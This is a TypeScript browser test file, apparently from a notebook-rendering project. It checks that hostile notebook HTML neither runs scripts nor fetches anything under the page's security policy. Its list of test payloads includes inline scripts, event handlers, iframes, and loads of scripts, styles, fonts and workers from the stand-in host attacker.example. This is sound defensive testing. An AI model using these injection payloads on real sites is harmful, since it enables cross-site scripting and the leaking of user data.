/** Hostile notebooks in a real browser: nothing runs and nothing is fetched; and if something got past us, the page's own policy would stop it. */
import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import type { Browser } from "playwright-core";
import { ATTACKS, pageOf } from "../report/hostile/hostile-notebook.js";
import { launch, open } from "./browser.js";

let browser: Browser;
const folder = mkdtempSync(join(tmpdir(), "backproof-hostile-"));
before(async () => void (browser = await launch()));
after(async () => {
  await browser.close();
  rmSync(folder, { recursive: true });
});

function written(name: string, html: string): string {
  const file = join(folder, name);
  writeFileSync(file, html);
  return file;
}

/** Opens a page, moves over and clicks what could be a trap, and tells what came of it. */
async function provoked(file: string): Promise<{ readonly ran: boolean; readonly sent: readonly string[] }> {
  const { page, requests, stopped, close } = await open(browser, file);
  await page.evaluate("for (const each of document.querySelectorAll('details')) each.open = true; for (const each of document.querySelectorAll('main *')) each.dispatchEvent(new MouseEvent('mouseover', { bubbles: false }))");
  await page.evaluate("for (const each of document.querySelectorAll('button.interactive')) each.click()");
  await page.waitForTimeout(1500);
  const ran = await page.evaluate<boolean>("'__ran' in window");
  await close();
  return { ran, sent: requests.filter((url) => !stopped.includes(url)) };
}

test("all attacks on one page: nothing runs, nothing is fetched", async () => {
  assert.deepEqual(await provoked(written("all.html", pageOf(ATTACKS.map(([, cell]) => cell)).html)), { ran: false, sent: [] });
});

const PAST_US: readonly (readonly [title: string, html: string])[] = [
  ["a script", "<script>window.__ran=1</script>"],
  ["a handler", '<img src="data:image/png;base64,AAAA" onerror="window.__ran=1">'],
  ["a script from elsewhere", '<script src="https://attacker.example/x.js"></script>'],
  ["a script as data", '<script src="data:text/javascript,window.__ran=1"></script>'],
  ["a frame", `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe><iframe src="https://attacker.example/"></iframe>`],
  ["an image from elsewhere", '<img src="https://attacker.example/x.png">'],
  ["a style that fetches", '<style>@import "https://attacker.example/x.css"; main{background:url(https://attacker.example/y)}</style>'],
  ["a font, a video, an object", '<style>@font-face{font-family:z;src:url(https://attacker.example/z.woff2)}main{font-family:z}</style><video src="https://attacker.example/v"></video><object data="https://attacker.example/o"></object>'],
  ["a worker, a request", "<script>fetch('https://attacker.example/f'); new Worker('https://attacker.example/w.js')</script>"],
  ["a base address", '<base href="https://attacker.example/"><img src="b.png">'],
];
for (const [title, html] of PAST_US) {
  test(`the policy of the page stops what would be in it: ${title}`, async () => {
    const whole = pageOf([{ cell_type: "markdown", id: "m", metadata: {}, source: "PLACE" }]).html;
    assert.deepEqual(await provoked(written("past.html", whole.replace("PLACE", html))), { ran: false, sent: [] });
  });
}
